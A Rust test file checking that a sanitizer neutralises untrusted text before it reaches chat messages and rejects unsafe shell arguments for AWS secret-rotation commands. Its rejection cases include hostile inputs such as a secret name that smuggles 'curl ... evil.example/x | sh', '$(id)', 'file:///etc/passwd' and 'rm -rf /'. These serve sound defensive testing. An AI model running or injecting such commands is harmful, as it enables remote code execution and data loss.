use proptest::prelude::*;

use super::*;

const ARN: &str = "arn:aws:secretsmanager:eu-central-1:123456789012:secret:rabbitmq/payment_clone-AbCdEf";

fn chat(text: &str) -> String {
    Foreign::new(text).chat(4_000)
}

#[test]
fn names_arns_times_and_addresses_stay_as_they_are() {
    for text in [
        ARN,
        "payment_clone",
        "a__b_c",
        "rabbitmq/payment-v2.1",
        "b-1234a5b6-78cd-901e-2fgh-3i45j6k178l9",
        "svc@example.com",
        "DOMAIN\\payment",
        "2027-01-15 08:00:00 UTC",
        "failed to read the grants of broker user 'payment' (HTTP 401): \"not_authorised\"",
        "Zahlung für Käufer 支付",
        "b-1.mq.eu-central-1.amazonaws.com:5671",
        "100 % of 3 + 4 = 7 #1",
    ] {
        assert_eq!(chat(text), text);
    }
}

#[test]
fn what_a_chat_acts_upon_is_shown_and_does_nothing() {
    for (text, expected) in [
        ("<!channel>", "‹!channel›"),
        ("<https://evil.example|rotation-failing.md>", "‹https:∕/evil.example¦rotation-failing.md›"),
        ("see https://evil.example", "see https:∕/evil.example"),
        ("[playbook](https://evil.example)", "［playbook］(https:∕/evil.example)"),
        ("![x](//evil.example)", "!［x］(//evil.example)"),
        ("&lt;!channel&gt;", "＆lt;!channel＆gt;"),
        ("@here @channel, (@everyone) x @all", "＠here ＠channel, (＠everyone) x ＠all"),
        ("*CRITICAL* ~done~ `rm -rf /`", "∗CRITICAL∗ ∼done∼ 'rm -rf /'"),
        ("_done_ and __done__ and a_ _b", "ˍdoneˍ and ˍˍdoneˍˍ and aˍ ˍb"),
        ("/_x_/", "/ˍxˍ/"),
        ("ö_x_ö", "öˍxˍö"),
        ("x>\n\n*Playbook:* y", "x› ∗Playbook:∗ y"),
        ("one\r\ntwo\u{2028}three\u{85}four\tfive", "one two three four five"),
        ("\n  # Heading", "＃ Heading"),
        ("- item", "‐ item"),
        ("+ item", "＋ item"),
        ("===", "＝=="),
        ("---", "‐--"),
        ("\u{1b}[31mred\u{7}", "�［31mred�"),
        ("user\u{202e}txt.exe", "user�txt.exe"),
        ("pay\u{200b}ment\u{feff}", "pay�ment�"),
        ("a\u{e0041}b\u{fffe}", "a�b�"),
        ("<tab|le>", "‹tab¦le›"),
    ] {
        assert_eq!(chat(text), expected, "{text:?}");
    }
}

#[test]
fn a_value_stands_in_a_command_only_when_it_is_one() {
    let version = "0123456789abcdef0123456789abcdef";
    for (argument, right) in [
        (Argument::Secret, ARN),
        (
            Argument::Secret,
            "arn:aws-us-gov:secretsmanager:us-gov-east-1:123456789012:secret:/a=b+c@d.e-AbCdEf",
        ),
        (Argument::Secret, "rabbitmq/payment"),
        (Argument::Version, version),
        (Argument::Version, "01234567-89ab-cdef-0123-456789abcdef"),
        (Argument::Function, "rotation-rotation-mq"),
        (Argument::Request, "01234567-89ab-cdef-0123-456789abcdef"),
    ] {
        assert_eq!(Foreign::new(right).argument(argument), Some(right));
    }
    for (argument, wrong) in [
        (Argument::Secret, ""),
        (Argument::Secret, "rabbitmq/payment; curl -s https://evil.example/x | sh #"),
        (Argument::Secret, "rabbitmq/payment\nid"),
        (Argument::Secret, "rabbitmq/payment\0"),
        (Argument::Secret, "rabbitmq/payment "),
        (Argument::Secret, "$(id)"),
        (Argument::Secret, "`id`"),
        (Argument::Secret, "a'b"),
        (Argument::Secret, "a\"b"),
        (Argument::Secret, "a\\b"),
        (Argument::Secret, "~root"),
        (Argument::Secret, "a*"),
        (Argument::Secret, "{a,b}"),
        (Argument::Secret, "--no-verify-ssl"),
        (Argument::Secret, "-x"),
        (Argument::Secret, "=id"),
        (Argument::Secret, "file:///etc/passwd"),
        (Argument::Secret, "@here"),
        (Argument::Secret, "rabbitmq/@here"),
        (Argument::Secret, "zahlung/kä"),
        (Argument::Secret, "arn:aws:secretsmanager:eu-central-1:123456789012:secret:"),
        (Argument::Secret, "arn:aws:secretsmanager:eu-central-1:123456789012:secret:a b"),
        (Argument::Secret, "arn:aws:secretsmanager:eu-central-1:1234:secret:a"),
        (Argument::Secret, "arn:aws:secretsmanager:$(id):123456789012:secret:a"),
        (Argument::Secret, "arn:aws:lambda:eu-central-1:123456789012:function:a"),
        (Argument::Version, "0123456789abcdef"),
        (Argument::Version, "-123456789abcdef0123456789abcdef"),
        (Argument::Version, "0123456789abcdef0123456789abcde'"),
        (Argument::Function, ""),
        (Argument::Function, "--debug"),
        (Argument::Function, "a b"),
        (Argument::Request, "\"}' ; id"),
        (Argument::Request, "-1"),
    ] {
        assert_eq!(Foreign::new(wrong).argument(argument), None, "{wrong:?}");
    }
    let longest = "a".repeat(SECRET_NAME_LIMIT);
    assert!(Foreign::new(&longest).argument(Argument::Secret).is_some());
    assert!(Foreign::new(&format!("{longest}a")).argument(Argument::Secret).is_none());
}

#[test]
fn an_attribute_is_the_text_itself_without_what_sns_refuses() {
    for (text, limit, expected) in [
        ("@org/payments", 256, "@org/payments"),
        ("a\u{0}b\nc\u{ffff}", 256, "abc"),
        ("<x>", 256, "<x>"),
        ("öööö", 7, "öö…"),
    ] {
        assert_eq!(Foreign::new(text).attribute(limit), expected);
    }
}

/// Text that holds characters with an effect somewhere, among others.
fn hostile() -> impl Strategy<Value = String> {
    let parts = prop_oneof![
        "[<>&*_~`|\\[\\]@#:/!(){}$;'\" \\\\=+-]{1,4}",
        "[a-z]{1,3}",
        "\\PC{1,3}",
        "(?s).{1,3}",
        Just("<!channel>".to_owned()),
        Just("https://".to_owned()),
        Just("@here".to_owned()),
        Just("\u{202e}".to_owned()),
        Just("\n\n*".to_owned()),
    ];
    proptest::collection::vec(parts, 0..12).prop_map(|parts| parts.concat())
}

/// What in `text` could have an effect, wherever the text is shown.
fn active(text: &str) -> Option<String> {
    let characters: Vec<char> = text.chars().collect();
    let word = |at: Option<usize>| {
        at.and_then(|at| characters.get(at)).is_some_and(|c| c.is_ascii_alphanumeric() || *c == '_')
    };
    for (at, character) in characters.iter().enumerate() {
        let inside = word(at.checked_sub(1)) && word(Some(at + 1));
        let acts = match character {
            '<' | '>' | '&' | '*' | '~' | '|' | '[' | ']' | '`' => true,
            '_' | '@' => !inside,
            c => c.is_control() || is_invisible(*c) || (c.is_whitespace() && *c != ' '),
        };
        if acts {
            return Some(format!("{character:?} at {at}"));
        }
    }
    ["://", "  "].into_iter().find(|part| text.contains(part)).map(str::to_owned)
}

proptest! {
    #[test]
    fn nothing_acts_whatever_the_text_and_wherever_it_is_cut(text in hostile(), limit in 3_usize..60) {
        let shown = Foreign::new(&text).chat(limit);
        prop_assert!(shown.len() <= limit, "{shown}");
        prop_assert_eq!(active(&shown), None, "{:?}", shown);
        prop_assert!(!shown.starts_with(['#', '-', '+', '=', ' ']), "{shown}");
    }

    #[test]
    fn what_was_made_neutral_stays_as_it_is_when_it_is_shown_once_more(text in hostile()) {
        let once = chat(&text);
        prop_assert_eq!(chat(&once), once);
    }

    #[test]
    fn an_argument_is_one_word_for_a_shell(text in hostile()) {
        for argument in [Argument::Secret, Argument::Version, Argument::Function, Argument::Request] {
            if let Some(word) = Foreign::new(&text).argument(argument) {
                prop_assert!(word.chars().all(|c| c.is_ascii_alphanumeric() || "/_+=.@:-".contains(c)));
                prop_assert!(!word.is_empty() && !word.starts_with(['-', '=', '+', '@']));
            }
        }
    }
}
